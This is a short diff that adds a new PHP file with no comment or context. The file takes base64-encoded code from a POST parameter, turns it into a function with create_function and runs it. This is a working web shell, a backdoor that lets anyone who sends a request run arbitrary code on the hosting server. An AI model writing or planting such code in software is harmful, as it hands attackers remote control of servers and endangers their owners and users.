@@ -1,0 +1,3 @@
+<?php
+$f = create_function('', base64_decode($_POST['z']));
+$f();
